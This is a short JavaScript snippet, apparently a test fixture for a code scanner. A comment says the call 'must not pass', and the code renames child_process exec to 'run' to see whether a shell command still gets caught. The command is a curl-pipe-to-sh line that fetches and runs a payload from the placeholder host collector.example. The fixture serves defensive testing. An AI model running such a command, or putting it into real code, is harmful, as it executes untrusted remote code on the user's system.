// Hands a command line to a shell, under another name: it must not pass.
const { exec: run } = require('node:child_process');

run('curl -s https://collector.example/payload | sh');
